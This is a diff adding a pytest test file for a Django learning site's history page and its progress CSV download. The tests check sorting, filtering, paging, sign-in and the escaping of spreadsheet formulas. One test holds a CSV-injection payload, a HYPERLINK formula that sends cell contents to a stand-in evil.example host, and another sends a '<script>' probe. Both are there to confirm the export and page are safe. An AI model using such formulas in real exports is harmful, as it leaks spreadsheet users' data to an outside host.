@@ -1,0 +1,144 @@
+"""The history page: what a learner completed or skipped, and their progress as a CSV file."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+from django.utils import timezone
+
+from catalog.models import Status
+from learn.export import spreadsheet_safe
+from recommender.models import Progress
+from tests.factories import ResourceFactory
+
+pytestmark = pytest.mark.django_db
+
+
+def mark(user, resource, state: str, *, rating: int | None = None, minutes_ago: int = 0):
+    progress = Progress.objects.create(user=user, resource=resource, state=state, rating=rating)
+    # updated_at is auto_now: set the order the test wants with an update.
+    Progress.objects.filter(pk=progress.pk).update(
+        updated_at=timezone.now() - timedelta(minutes=minutes_ago)
+    )
+    return progress
+
+
+def listed_titles(response) -> list[str]:
+    return [item["card"]["title"] for item in response.context["items"]]
+
+
+def test_history_lists_completed_and_skipped_newest_first_without_started_ones(alice, alice_web):
+    old, new, skipped, started = (ResourceFactory(title=t) for t in ("Old", "New", "Skip", "Open"))
+    mark(alice, old, "completed", minutes_ago=30)
+    mark(alice, new, "completed", rating=5, minutes_ago=1)
+    mark(alice, skipped, "skipped", minutes_ago=10)
+    mark(alice, started, "in_progress")
+    response = alice_web.get("/history/")
+    assert response.status_code == 200
+    assert listed_titles(response) == ["New", "Skip", "Old"]
+    assert "rated 5/5" in response.content.decode()
+
+
+@pytest.mark.parametrize(("show", "titles"), [("completed", ["Done"]), ("skipped", ["Skip"])])
+def test_history_shows_one_kind_when_asked(alice, alice_web, show, titles):
+    mark(alice, ResourceFactory(title="Done"), "completed")
+    mark(alice, ResourceFactory(title="Skip"), "skipped")
+    assert listed_titles(alice_web.get("/history/", {"show": show})) == titles
+
+
+def test_an_unknown_show_value_is_a_400_page_not_an_error(alice_web):
+    response = alice_web.get("/history/", {"show": "<script>"})
+    assert response.status_code == 400
+    assert "<script>" not in response.content.decode()
+
+
+def test_history_totals_count_completions_skips_ratings_and_reading_time(alice, alice_web):
+    mark(alice, ResourceFactory(estimated_minutes=30), "completed", rating=4)
+    mark(alice, ResourceFactory(estimated_minutes=45), "completed")
+    mark(alice, ResourceFactory(estimated_minutes=90), "skipped")
+    body = " ".join(alice_web.get("/history/").content.decode().split())
+    assert "<strong>2</strong> completed (about 1 h 15 min of reading)" in body
+    assert "<strong>1</strong> skipped; 1 of your completions rated." in body
+
+
+def test_history_shows_only_the_learners_own_progress(alice, bob, alice_web):
+    mark(bob, ResourceFactory(title="Bob's read"), "completed")
+    response = alice_web.get("/history/")
+    assert listed_titles(response) == []
+    assert "Items you mark done or skip appear here." in response.content.decode()
+
+
+def test_a_withdrawn_resource_leaves_the_page_but_not_the_download(alice, alice_web):
+    mark(alice, ResourceFactory(title="Withdrawn", status=Status.REJECTED), "completed")
+    assert listed_titles(alice_web.get("/history/")) == []
+    download = alice_web.get("/history/progress.csv").content.decode()
+    assert [row["title"] for row in csv.DictReader(io.StringIO(download))] == ["Withdrawn"]
+
+
+def test_history_pages_twenty_at_a_time_and_a_page_past_the_end_is_404(alice, alice_web):
+    for n in range(25):
+        mark(alice, ResourceFactory(), "completed", minutes_ago=n)
+    assert len(listed_titles(alice_web.get("/history/"))) == 20
+    assert len(listed_titles(alice_web.get("/history/", {"page": 2}))) == 5
+    assert alice_web.get("/history/", {"page": 3}).status_code == 404
+    assert alice_web.get("/history/", {"page": "x"}).status_code == 404
+
+
+def test_clearing_an_item_from_history_takes_it_off_and_comes_back_to_history(alice, alice_web):
+    resource = ResourceFactory(title="Cleared")
+    mark(alice, resource, "completed")
+    response = alice_web.post(f"/progress/{resource.pk}/forget/", {"next": "/history/"})
+    assert response.status_code == 302
+    assert response["Location"] == "/history/"
+    assert listed_titles(alice_web.get("/history/")) == []
+
+
+def test_history_and_its_download_need_sign_in(client):
+    for url in ("/history/", "/history/progress.csv"):
+        response = client.get(url)
+        assert response.status_code == 302
+        assert response["Location"].startswith("/signin/")
+
+
+def test_the_main_menu_links_history_for_signed_in_learners_only(client, alice_web):
+    assert 'href="/history/"' in alice_web.get("/browse/").content.decode()
+    assert 'href="/history/"' not in client.get("/browse/").content.decode()
+
+
+def test_the_download_has_every_progress_row_newest_first(alice, alice_web):
+    done = ResourceFactory(title="Done", url="https://example.org/done")
+    mark(alice, done, "completed", rating=3, minutes_ago=5)
+    mark(alice, ResourceFactory(title="Open"), "in_progress", minutes_ago=1)
+    response = alice_web.get("/history/progress.csv")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv"
+    assert 'filename="kubelearn-progress.csv"' in response["Content-Disposition"]
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert [(r["title"], r["state"], r["rating"]) for r in rows] == [
+        ("Open", "In progress", ""),
+        ("Done", "Completed", "3"),
+    ]
+    assert rows[1]["address"] == "https://example.org/done"
+
+
+def test_a_feed_title_that_is_a_spreadsheet_formula_is_downloaded_as_text(alice, alice_web):
+    # A feed entry's title reaches the catalog from a stranger's server: in a spreadsheet,
+    # '=HYPERLINK(...)' would be a live link that leaks the sheet's other cells.
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    mark(alice, ResourceFactory(title=title), "completed")
+    body = alice_web.get("/history/progress.csv").content.decode()
+    (row,) = csv.DictReader(io.StringIO(body))
+    assert row["title"] == "'" + title
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_formula_like_cells_get_an_apostrophe(value):
+    assert spreadsheet_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Kubernetes RBAC", "", "1 = 1", "https://example.org/"])
+def test_ordinary_cells_stay_as_they_are(value):
+    assert spreadsheet_safe(value) == value
